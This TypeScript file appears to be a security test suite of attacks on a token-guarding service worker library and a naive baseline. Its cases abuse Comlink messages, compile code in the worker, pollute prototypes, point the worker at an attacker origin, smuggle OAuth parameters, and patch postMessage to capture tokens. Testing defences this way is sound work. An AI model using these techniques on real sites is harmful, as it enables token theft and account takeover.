import type { Attack } from '../attack.ts';
import type { Scene } from '../scene.ts';
import { comesTrue } from '../until.ts';
import { send } from '../visit.ts';
import { CLAIMS_ATTACK } from './claims.ts';
import { PROXY_ATTACK } from './proxy.ts';
import { settle } from './settle.ts';

/** What is sent to the worker: messages as they are, or what follows an envelope on a channel. */
interface Sent {
  readonly messages: readonly unknown[];
  readonly onChannel: boolean;
}

/** Sends messages to the worker, each with a channel of its own, and gives all that comes back on whatever way. */
async function ask(scene: Scene, messages: readonly unknown[], onChannel: boolean): Promise<unknown> {
  await scene.tab.evaluate(
    (sent: Sent) => {
      const answers: unknown[] = [];
      Object.assign(window, { answers });
      const listen = (port: MessagePort): void => {
        port.onmessage = ({ data }: MessageEvent<unknown>) => {
          answers.push(data);
          const value: unknown = Reflect.get(Object(data), 'value');
          if (!(value instanceof MessagePort)) return;
          // What was made at the other end is called at once; what comes then may be the prize.
          listen(value);
          value.postMessage({ id: 'n', type: 'APPLY', path: [], argumentList: [] });
          value.postMessage({ id: 'm', type: 'APPLY', path: ['getToken'], argumentList: [] });
        };
      };
      navigator.serviceWorker.addEventListener('message', ({ data }) => answers.push(data));
      for (const message of sent.messages) {
        const { port1, port2 } = new MessageChannel();
        listen(port1);
        const envelope = { type: 'tokenward:call', protocolVersion: 1 };
        navigator.serviceWorker.controller?.postMessage(sent.onChannel ? envelope : message, [port2]);
        if (sent.onChannel) port1.postMessage(message);
      }
    },
    { messages, onChannel },
  );
  await settle(scene);
  return scene.tab.evaluate(() => {
    const answers: unknown = Reflect.get(window, 'answers');
    return Array.isArray(answers) ? answers.map((answer) => JSON.stringify(answer)) : [];
  });
}

function asking(id: string, title: string, messages: readonly unknown[], onChannel: 'message' | 'channel'): Attack {
  return {
    id,
    title,
    scenario: '5.1.1',
    naive: 'worker',
    keepsPage: true,
    act: async (scene) => ({ seen: await ask(scene, messages, onChannel === 'channel') }),
  };
}

const VERBS = [
  'getToken',
  'getAccessToken',
  'get_access_token',
  'getState',
  'getTokens',
  'getSession',
  'debug',
  'dump',
  'refresh',
];
const HANDSHAKE = { id: '1', type: 'APPLY', path: ['handshake'], argumentList: [] };
/** Everything that a worker's global scope holds by name, and what the naive one calls its own. */
const CODE = `return JSON.stringify([typeof state === 'undefined' ? '' : state, ...Object.getOwnPropertyNames(self).map((name) => { try { return typeof self[name] === 'string' ? self[name] : ''; } catch { return ''; } })])`;
const compile = [{ type: 'RAW', value: CODE }];

/** Tells the worker something, then makes a request to the attacker's server. */
async function tellAndFetch(scene: Scene, message: unknown, path: string): Promise<void> {
  await scene.tab.evaluate((said) => navigator.serviceWorker.controller?.postMessage(said), message);
  await settle(scene);
  await send(scene.tab, `${scene.servers.foreign.origin}${path}`);
}

function configuring(id: string, title: string, message: (scene: Scene) => unknown): Attack {
  return {
    id,
    title,
    scenario: '5.1.1',
    naive: 'worker',
    ruins: 'naive profile',
    act: async (scene) => {
      await tellAndFetch(scene, message(scene), `/${id}`);
      return { seen: '' };
    },
  };
}

const configuration = ({ servers: { foreign } }: Scene): object => ({
  apiUrl: foreign.origin,
  issuer: foreign.origin,
  protectedResources: [{ url: foreign.origin }],
});

export const WORKER_ATTACKS: readonly Attack[] = [
  asking(
    'W01',
    'guesses verbs: getToken, getState, debug',
    [...VERBS, ...VERBS.map((type) => ({ type })), ...VERBS.map((verb) => ({ type: `tokenward:${verb}` }))],
    'message',
  ),
  asking(
    'W02',
    'calls methods that it guesses, over Comlink',
    VERBS.map((verb) => ({ ...HANDSHAKE, path: [verb] })),
    'channel',
  ),
  asking(
    'W03',
    'reads properties over Comlink',
    [[], ['getToken'], ['tokens'], ['state'], ['handshake']].map((path) => ({ id: '1', type: 'GET', path })),
    'channel',
  ),
  asking(
    'W04',
    'compiles a function in the worker by CONSTRUCT over the constructor of a method',
    [{ ...HANDSHAKE, type: 'CONSTRUCT', path: ['handshake', 'constructor'], argumentList: compile }],
    'channel',
  ),
  asking('W05', 'opens a channel without a gate by ENDPOINT', [{ id: '1', type: 'ENDPOINT', path: [] }], 'channel'),
  {
    id: 'W06',
    title: 'changes a prototype in the worker by SET',
    scenario: '5.1.1',
    naive: 'worker',
    ruins: 'naive profile',
    act: async (scene) => {
      const set = {
        id: '1',
        type: 'SET',
        path: ['handshake', '__proto__', 'injected'],
        value: { type: 'RAW', value: 'by the attacker' },
      };
      await ask(scene, [set], true);
      const answers = await ask(scene, [{ id: '2', type: 'GET', path: ['getToken', 'injected'] }], true);
      return { reached: JSON.stringify(answers).includes('by the attacker') };
    },
  },
  PROXY_ATTACK,
  configuring('W08', 'configures the worker by a message', (scene) => ({
    type: 'configure',
    options: configuration(scene),
  })),
  configuring('W09', 'configures the worker by a message in its own words', (scene) => ({
    type: 'tokenward:configure',
    options: configuration(scene),
  })),
  {
    id: 'W10',
    title: 'configures the worker by the query of its script',
    scenario: '5.1.1',
    naive: 'worker',
    ruins: 'naive profile',
    act: async ({ tab, site, servers: { foreign } }) => {
      await tab.evaluate(
        async ({ path, server }) => {
          const query = new URLSearchParams({ api: server, issuer: server, apiUrl: server });
          const isControlled = new Promise((resolve) =>
            navigator.serviceWorker.addEventListener('controllerchange', resolve),
          );
          await navigator.serviceWorker.register(`${path}?${query}`).then(
            () => isControlled,
            () => {},
          );
          // The app gives the tokens to whatever worker there is.
          await window.app.refresh();
          await fetch(`${server}/W10`).catch(() => {});
        },
        { path: site.workerPath, server: foreign.origin },
      );
      return { seen: '' };
    },
  },
  {
    id: 'W11',
    title: 'makes the worker fetch a URL by the message of a caching library',
    scenario: '5.1.1',
    naive: 'worker',
    act: async (scene) => {
      const { foreign } = scene.servers;
      const before = foreign.requests.length;
      const urlsToCache = [`${foreign.origin}/W11`];
      await tellAndFetch(scene, { type: 'CACHE_URLS', payload: { urlsToCache } }, '/W11-page');
      // Nobody waits for what a worker fetches for itself.
      const isFetched = (): boolean =>
        foreign.requests.slice(before).some(({ method, path }) => method === 'GET' && path === '/W11');
      await comesTrue(isFetched, scene.timeoutMs);
      return { seen: '' };
    },
  },
  {
    ...asking(
      'W12',
      'requests a handover, as the next version of the worker does',
      [true, false].map((seals) => ({ type: 'tokenward:handover', seals })),
      'message',
    ),
    // Tokenward takes who asks for an attacker, and ends the session.
    ruins: 'sessions',
    keepsPage: false,
  },
  {
    id: 'W13',
    title: 'requests scopes and parameters that the configuration does not allow the page to choose',
    scenario: '5.1.2',
    naive: 'page',
    ruins: 'naive profile',
    act: async ({ tab, site, servers: { authorizationServer } }) => {
      const before = authorizationServer.requests.count('authorization');
      const options = {
        returnTo: site.page,
        scopes: ['openid', 'reports:read'],
        acrValues: ['urn:attacker'],
        prompt: 'consent',
        parameters: {
          scope: 'openid reports:read',
          response_type: 'token',
          redirect_uri: `${site.origin}/plain`,
          client_id: 'x',
          state: 'x',
          claims: '{}',
        },
      };
      // Ends when the sign-in is refused, or the page has left.
      await tab.evaluate((asked) => window.app.signIn(asked).catch(() => {}), options).catch(() => {});
      for (const [name, value] of Object.entries({ ...options.parameters, acr_values: 'urn:attacker' })) {
        const query = new URLSearchParams({ returnTo: site.page, [name]: value });
        await tab.goto(`${site.origin}/auth/login?${query}`).catch(() => {});
      }
      const { requests } = authorizationServer;
      const sent = requests
        .list('authorization')
        .slice(before)
        .map(({ parameters }) => String(parameters));
      return {
        reached: sent.some((query) =>
          /reports|attacker|plain|client_id=x|response_type=token|state=x&|claims/.test(query),
        ),
      };
    },
  },
  CLAIMS_ATTACK,
  {
    id: 'W14',
    title: 'requests a token at the addresses of a backend-for-frontend',
    scenario: '5.1.1',
    naive: 'worker',
    act: async ({ tab }) => ({
      seen: await tab.evaluate(async () => {
        const seen: string[] = [];
        for (const path of ['token', 'session', 'refresh', 'userinfo', 'login', 'logout', 'callback']) {
          const response = await fetch(`/auth/${path}`, { redirect: 'manual' }).catch(() => undefined);
          seen.push((await response?.text()) ?? '', [...(response?.headers ?? [])].join());
        }
        return seen;
      }),
    }),
  },
  {
    id: 'W15',
    title: 'sends a token request of its own through the worker, in many spellings',
    scenario: '5.1.3',
    naive: 'worker',
    ruins: 'naive profile',
    act: async ({ tab, servers: { authorizationServer } }) => ({
      seen: await tab.evaluate(
        async ({ origin, clientId }) => {
          const seen: string[] = [];
          const form = { grant_type: 'refresh_token', client_id: clientId, refresh_token: 'from the worker' };
          const urls = ['/token', '/token/', '//token', '/token?x', '/%74oken', '/./token', '/x/../token', '/TOKEN'];
          for (const path of urls) {
            for (const body of [new URLSearchParams(form), JSON.stringify(form)]) {
              const answer = await fetch(origin + path, { method: 'POST', body }).catch(() => undefined);
              seen.push((await answer?.text()) ?? '');
            }
          }
          return seen;
        },
        { origin: authorizationServer.origin, clientId: authorizationServer.clientId },
      ),
    }),
  },
  {
    id: 'W16',
    title: 'hides service workers before the app loads, so that the app keeps its tokens itself',
    scenario: '5.1.2',
    naive: 'page',
    before: `Object.defineProperty(Navigator.prototype, 'serviceWorker', { get: () => undefined });`,
    act: async ({ tab }) => ({
      seen: await tab.evaluate(() => [
        JSON.stringify(localStorage),
        JSON.stringify(sessionStorage),
        document.documentElement.outerHTML,
        JSON.stringify(Reflect.get(window, 'naiveTokens') ?? ''),
      ]),
    }),
  },
  {
    id: 'W17',
    title: 'patches the channel to the worker and reads each answer',
    scenario: '5.1.2',
    naive: 'worker',
    before: `window.caught = [];
    const { postMessage } = ServiceWorker.prototype;
    ServiceWorker.prototype.postMessage = function (message, transfer) {
      window.caught.push(JSON.stringify(message));
      return postMessage.call(this, message, transfer);
    };
    const Original = MessageChannel;
    window.MessageChannel = class {
      constructor() {
        const { port1, port2 } = new Original();
        port1.addEventListener('message', ({ data }) => window.caught.push(JSON.stringify(data)));
        Object.assign(this, { port1, port2 });
      }
    };`,
    act: async ({ tab }) => ({
      seen: await tab.evaluate(async () => {
        // The app says again what it has said while it loaded.
        await window.app.refresh();
        const caught: unknown = Reflect.get(window, 'caught');
        return caught;
      }),
    }),
  },
];
